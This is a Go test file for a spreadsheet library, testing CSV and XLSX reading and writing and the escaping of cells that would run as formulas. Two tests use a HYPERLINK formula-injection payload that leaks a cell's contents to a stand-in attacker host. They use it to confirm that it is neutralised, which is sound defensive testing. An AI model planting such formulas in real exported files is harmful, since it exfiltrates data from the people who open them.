package spreadsheet

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// texts is the rows' numbers and cells, for comparing.
func texts(t *Table) [][]string {
	var out [][]string
	for _, r := range t.Rows {
		row := []string{string(rune('0' + r.Num/10)), string(rune('0' + r.Num%10))}
		for _, c := range r.Cells {
			row = append(row, c.Text)
		}
		out = append(out, row)
	}
	return out
}

// TestReadCSVRows: rows are numbered as a spreadsheet shows the file, with
// blank lines and cells of several lines; blank rows are no cards.
func TestReadCSVRows(t *testing.T) {
	data := "\uFEFFid, name ,rules\n" + // a byte order mark; header cells are trimmed
		"a,Alpha,\"two\nlines\"\n" + // row 2, over two lines
		"\n" + // row 3: a blank line
		",,\n" + // row 4: a blank row
		"b,Beta\n" + // row 5, short
		"c,\"Gamma, \"\"the third\"\"\",x" // row 6, no line end
	tab, err := ReadCSV([]byte(data))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(tab.Header, []string{"id", "name", "rules"}) {
		t.Errorf("header %q", tab.Header)
	}
	var nums []int
	for _, r := range tab.Rows {
		nums = append(nums, r.Num)
	}
	if !slices.Equal(nums, []int{2, 5, 6}) {
		t.Errorf("rows %v, want 2, 5, 6", nums)
	}
	if got := tab.Rows[0].Cell(2); got != "two\nlines" {
		t.Errorf("row 2 rules %q", got)
	}
	if got := tab.Rows[1].Cell(2); got != "" {
		t.Errorf("row 5 rules %q, want empty", got)
	}
	if got := tab.Rows[2].Cell(1); got != `Gamma, "the third"` {
		t.Errorf("row 6 name %q", got)
	}

	for _, tc := range []struct{ data, want string }{
		{"id,name\na,\"open\nb,c\n", "row 2 (line 3)"},
		{"id,name\n\na,b\"c\n", "row 3 (line 3)"},
		{"", "row 1 is empty"},
		{",,\nx,y,z\n", "row 1 is empty"},
		{"id\n\xff\n", "not UTF-8"},
	} {
		if _, err := ReadCSV([]byte(tc.data)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: got %v, want %q", tc.data, err, tc.want)
		}
	}
}

func TestCSVRoundTrip(t *testing.T) {
	tab := &Table{Header: []string{"id", "name", "rules"}, Rows: []Row{
		{Num: 2, Cells: []Cell{{Text: "a"}, {Text: `Quote "this"`}, {Text: "line\nbreak"}}},
		{Num: 3, Cells: []Cell{{Text: "b"}, {Text: "x, y"}}},
	}}
	data, err := WriteCSV(tab)
	if err != nil {
		t.Fatal(err)
	}
	want := "id,name,rules\na,\"Quote \"\"this\"\"\",\"line\nbreak\"\nb,\"x, y\",\n"
	if string(data) != want {
		t.Errorf("got %q, want %q", data, want)
	}
	back, err := ReadCSV(data)
	if err != nil {
		t.Fatal(err)
	}
	again, _ := WriteCSV(back)
	if !bytes.Equal(again, data) {
		t.Errorf("read and written again: %q", again)
	}
}

// TestXLSX: numbers are stored as numbers and booleans as booleans, and
// both read back as written; the same tables give the same bytes.
func TestXLSX(t *testing.T) {
	tabs := []*Table{
		{Name: "main", Header: []string{"id", "count", "ratio", "perishable", "score", "keywords"}, Rows: []Row{
			{Num: 2, Cells: []Cell{{Text: "a"}, {Text: "4", Type: CellNumber}, {Text: "1.5", Type: CellNumber}, {Text: "true", Type: CellBool}, {Text: "1.50"}, {Text: "x, y"}}},
			{Num: 3, Cells: []Cell{{Text: "b"}, {Text: "1", Type: CellNumber}, {}, {Text: "false", Type: CellBool}, {Text: "007"}}},
		}},
		{Name: "other-deck", Header: []string{"id"}, Rows: []Row{{Num: 2, Cells: []Cell{{Text: "c"}}}, {Num: 5, Cells: []Cell{{Text: "d"}}}}},
	}
	data, err := WriteXLSX(tabs)
	if err != nil {
		t.Fatal(err)
	}
	if again, _ := WriteXLSX(tabs); !bytes.Equal(again, data) {
		t.Error("the same tables gave other bytes")
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	// A number cell has no type attribute (CellTypeUnset means a number).
	for cell, want := range map[string][]excelize.CellType{
		"B2": {excelize.CellTypeUnset, excelize.CellTypeNumber},
		"D2": {excelize.CellTypeBool},
		"E2": {excelize.CellTypeSharedString, excelize.CellTypeInlineString},
	} {
		if got, _ := f.GetCellType("main", cell); !slices.Contains(want, got) {
			t.Errorf("%s: type %v, want one of %v", cell, got, want)
		}
	}
	f.Close()

	wb, err := OpenXLSX(data)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	if !slices.Equal(wb.Sheets(), []string{"main", "other-deck"}) {
		t.Errorf("sheets %v", wb.Sheets())
	}
	got, err := wb.Sheet("main")
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"0", "2", "a", "4", "1.5", "true", "1.50", "x, y"}, {"0", "3", "b", "1", "", "false", "007"}}
	if g := texts(got); !slices.EqualFunc(g, want, slices.Equal) {
		t.Errorf("read back %q, want %q", g, want)
	}
	// Rows keep their numbers across empty rows.
	other, err := wb.Sheet("other-deck")
	if err != nil {
		t.Fatal(err)
	}
	if g := texts(other); !slices.EqualFunc(g, [][]string{{"0", "2", "c"}, {"0", "5", "d"}}, slices.Equal) {
		t.Errorf("other-deck read back %q", g)
	}
	if _, err := OpenXLSX([]byte("not a zip")); err == nil || !strings.Contains(err.Error(), "not a readable XLSX workbook") {
		t.Errorf("garbage: %v", err)
	}
}

func TestSheetName(t *testing.T) {
	long := strings.Repeat("d", 40)
	if got := SheetName(long); len(got) != 31 {
		t.Errorf("SheetName of 40 characters: %d", len(got))
	}
	if got := SheetName("main"); got != "main" {
		t.Errorf("SheetName(main) = %s", got)
	}
}

// TestCSVFormulaInjection: a cell a spreadsheet would run as a formula is
// written with an apostrophe in front and read back exactly; numbers and
// harmless text are written as they are.
func TestCSVFormulaInjection(t *testing.T) {
	for _, tc := range []struct {
		cell    Cell
		written string
	}{
		{Cell{Text: `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`}, `"'=HYPERLINK(""http`},
		{Cell{Text: "+1 heat"}, "'+1 heat"},
		{Cell{Text: "-2 heat"}, "'-2 heat"},
		{Cell{Text: "@SUM(A1:A9)"}, "'@SUM(A1:A9)"},
		{Cell{Text: "\t=1+1"}, "'\t=1+1"},
		{Cell{Text: "\r=1+1"}, "\"'\r=1+1"},
		{Cell{Text: "'=already"}, "''=already"},
		{Cell{Text: "''-twice"}, "'''-twice"},
		{Cell{Text: "-3", Type: CellNumber}, "-3"},
		{Cell{Text: "-3"}, "'-3"},
		{Cell{Text: "'quoted'"}, "'quoted'"},
		{Cell{Text: "a=b"}, "a=b"},
		{Cell{Text: "'"}, "'"},
	} {
		tab := &Table{Header: []string{"id", "text"}, Rows: []Row{{Num: 2, Cells: []Cell{{Text: "a"}, tc.cell}}}}
		data, err := WriteCSV(tab)
		if err != nil {
			t.Fatal(err)
		}
		line := strings.TrimPrefix(string(data), "id,text\na,")
		if !strings.HasPrefix(line, tc.written) {
			t.Errorf("%q written as %q, want it to start %q", tc.cell.Text, line, tc.written)
		}
		back, err := ReadCSV(data)
		if err != nil {
			t.Fatal(err)
		}
		if got := back.Rows[0].Cell(1); got != tc.cell.Text {
			t.Errorf("%q read back as %q", tc.cell.Text, got)
		}
	}
	// The header too: a hand-made sheet's header cell is restored.
	back, err := ReadCSV([]byte("id,'=name\na,b\n"))
	if err != nil || back.Header[1] != "=name" {
		t.Errorf("header read as %v (%v)", back.Header, err)
	}
}

// TestXLSXTextIsNeverAFormula: a text cell that looks like a formula is
// stored as a string (no <f> element, type "s"), so a spreadsheet shows
// it and runs nothing, and it reads back exactly, without an apostrophe.
func TestXLSXTextIsNeverAFormula(t *testing.T) {
	payload := `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`
	tab := &Table{Name: "main", Header: []string{"id", "text"}, Rows: []Row{{Num: 2, Cells: []Cell{{Text: "a"}, {Text: payload}}}}}
	data, err := WriteXLSX([]*Table{tab})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if formula, _ := f.GetCellFormula("main", "B2"); formula != "" {
		t.Errorf("B2 holds the formula %q", formula)
	}
	if ty, _ := f.GetCellType("main", "B2"); ty != excelize.CellTypeSharedString {
		t.Errorf("B2 has type %v, want a shared string", ty)
	}
	f.Close()
	wb, err := OpenXLSX(data)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	back, err := wb.Sheet("main")
	if err != nil || back.Rows[0].Cell(1) != payload {
		t.Errorf("read back %v (%v)", back, err)
	}
}
